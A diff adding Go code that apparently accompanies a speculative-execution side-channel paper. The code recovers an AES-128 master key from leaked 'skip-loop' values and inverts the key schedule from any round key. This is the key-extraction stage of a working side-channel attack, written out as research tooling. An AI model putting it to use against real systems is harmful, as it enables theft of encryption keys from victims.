@@ -1,0 +1,145 @@
+package aes
+
+import "fmt"
+
+// LeakedPair is one oracle observation used by the key recovery: a known
+// plaintext together with the transiently leaked "skip-loop" value
+// L0 = aesenclast(P ^ k0, k1), obtained by poisoning the loop-entry bounds
+// check of the looped AES victim (edge BB1 -> BB5 in Figure 6) so the whole
+// encryption loop is speculatively bypassed.
+type LeakedPair struct {
+	Plaintext Block
+	Leak      Block
+}
+
+// RecoverKeyFromLeaks recovers the AES-128 master key from skip-loop leaks
+// for several known plaintexts (three or four suffice in practice).
+//
+// The algebra: L0 = ShiftRows(SubBytes(P ^ k0)) ^ k1, so for two
+// observations with the same key,
+//
+//	InvShiftRows(L ^ L')[i] = S(P[i]^k0[i]) ^ S(P'[i]^k0[i])
+//
+// which is byte-local: every byte of k0 is found independently by testing
+// all 256 candidates against each pair and intersecting the survivor sets.
+// A single pair always retains at least the paired solution
+// k0[i] ^ P[i] ^ P'[i]; pairs with distinct plaintext differences remove it.
+//
+// The optional fullCiphertext (with verify=true) arbitrates any residual
+// ambiguity by trial encryption.
+func RecoverKeyFromLeaks(obs []LeakedPair, fullCiphertext Block, verify bool) (Block, error) {
+	if len(obs) < 2 {
+		return Block{}, fmt.Errorf("aes: need at least 2 leaked pairs, have %d", len(obs))
+	}
+	// Candidate sets per key byte, filtered pair by pair against obs[0].
+	var cands [16][]byte
+	for i := 0; i < 16; i++ {
+		for k := 0; k < 256; k++ {
+			cands[i] = append(cands[i], byte(k))
+		}
+	}
+	ref := obs[0]
+	for _, o := range obs[1:] {
+		delta := InvShiftRows(XorBlocks(ref.Leak, o.Leak))
+		for i := 0; i < 16; i++ {
+			var keep []byte
+			for _, k := range cands[i] {
+				if sbox[ref.Plaintext[i]^k]^sbox[o.Plaintext[i]^k] == delta[i] {
+					keep = append(keep, k)
+				}
+			}
+			cands[i] = keep
+			if len(keep) == 0 {
+				return Block{}, fmt.Errorf("aes: inconsistent leaks, no candidate for byte %d", i)
+			}
+		}
+	}
+	// Enumerate the (usually singleton) candidate product.
+	total := 1
+	for i := 0; i < 16; i++ {
+		total *= len(cands[i])
+		if total > 1<<16 {
+			return Block{}, fmt.Errorf("aes: %d+ residual key candidates; provide more leaked pairs", total)
+		}
+	}
+	var out Block
+	found := 0
+	var idx [16]int
+	for {
+		var key Block
+		for i := 0; i < 16; i++ {
+			key[i] = cands[i][idx[i]]
+		}
+		ok := true
+		if verify {
+			rks, err := ExpandKey(key[:])
+			if err != nil {
+				return Block{}, err
+			}
+			ok = Encrypt(rks, ref.Plaintext) == fullCiphertext
+		}
+		if ok {
+			out = key
+			found++
+			if !verify && found > 1 {
+				return Block{}, fmt.Errorf("aes: ambiguous key; provide more leaked pairs or a ciphertext to verify against")
+			}
+		}
+		// Advance the mixed-radix counter.
+		i := 0
+		for ; i < 16; i++ {
+			idx[i]++
+			if idx[i] < len(cands[i]) {
+				break
+			}
+			idx[i] = 0
+		}
+		if i == 16 {
+			break
+		}
+	}
+	if found == 0 {
+		return Block{}, fmt.Errorf("aes: no key candidate survived verification")
+	}
+	if verify && found > 1 {
+		return Block{}, fmt.Errorf("aes: %d keys encrypt consistently; provide more data", found)
+	}
+	return out, nil
+}
+
+// InvertKeySchedule128 reconstructs the AES-128 master key from any single
+// round key. It inverts the key schedule column recursion
+//
+//	rk[r][c0] = rk[r-1][c0] ^ SubWord(RotWord(rk[r-1][c3])) ^ Rcon(r)
+//	rk[r][ci] = rk[r-1][ci] ^ rk[r][ci-1]    (i = 1..3)
+//
+// walking from the given round back to round 0. Combined with a leaked
+// reduced-round ciphertext this turns knowledge of any round key into the
+// master key, the step the paper's key-extraction algorithm relies on.
+func InvertKeySchedule128(rk Block, round int) (Block, error) {
+	if round < 0 || round > 10 {
+		return Block{}, fmt.Errorf("aes: AES-128 round %d out of range", round)
+	}
+	cur := rk
+	for r := round; r > 0; r-- {
+		var prev Block
+		// prev column i (i=3..1): prev[ci] = cur[ci] ^ cur[ci-1].
+		for c := 3; c >= 1; c-- {
+			for j := 0; j < 4; j++ {
+				prev[4*c+j] = cur[4*c+j] ^ cur[4*(c-1)+j]
+			}
+		}
+		// prev column 0 = cur[c0] ^ SubWord(RotWord(prev[c3])) ^ Rcon(r).
+		t := [4]byte{
+			sbox[prev[12+1]] ^ rcon(r),
+			sbox[prev[12+2]],
+			sbox[prev[12+3]],
+			sbox[prev[12+0]],
+		}
+		for j := 0; j < 4; j++ {
+			prev[j] = cur[j] ^ t[j]
+		}
+		cur = prev
+	}
+	return cur, nil
+}
